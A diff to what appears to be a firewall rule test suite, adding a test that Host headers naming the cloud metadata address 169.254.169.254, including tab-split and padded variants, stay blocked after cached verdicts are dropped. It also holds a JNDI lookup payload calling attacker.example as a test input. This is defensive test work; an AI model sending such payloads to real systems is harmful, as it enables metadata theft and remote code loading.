@@ -240,6 +240,20 @@ describe('managed rules', () => {
     expect(inspect(request({ bodyText: '{}' }), blockedClient, 'request')?.ruleId).to.equal('ip.blocked');
   });
 
+  it('judges a repeated Host header the same way every time, also once its remembered verdicts are dropped', () => {
+    const metadata = request(header('host', '169.254.169.254'));
+    const ordinary = request(header('host', 'public.data.example.com'));
+    for (let i = 0; i < 3; i++) {
+      expect(inspect(metadata, ALL)?.ruleId).to.equal('common.metadata-address');
+      expect(inspect(ordinary, ALL)).to.equal(undefined);
+    }
+    for (let i = 0; i < 600; i++) expect(inspect(request(header('host', `h${i}.example.com`)), ALL)).to.equal(undefined);
+    expect(inspect(metadata, ALL)?.ruleId).to.equal('common.metadata-address');
+    // Tabs vanish in a URL parser: a Host header cannot hide the name behind one.
+    expect(inspect(request(header('host', 'meta\tdata')), ALL)?.ruleId).to.equal('common.metadata-address');
+    expect(inspect(request(header('host', `${'a'.repeat(300)},169.254.169.254`)), ALL)?.ruleId).to.equal('common.metadata-address');
+  });
+
   it('never echoes the offending input in the message', () => {
     const verdict = inspect(request(header('user-agent', '${jndi:ldap://attacker.example/payload}')), ALL);
     expect(verdict?.message).not.to.include('attacker.example');
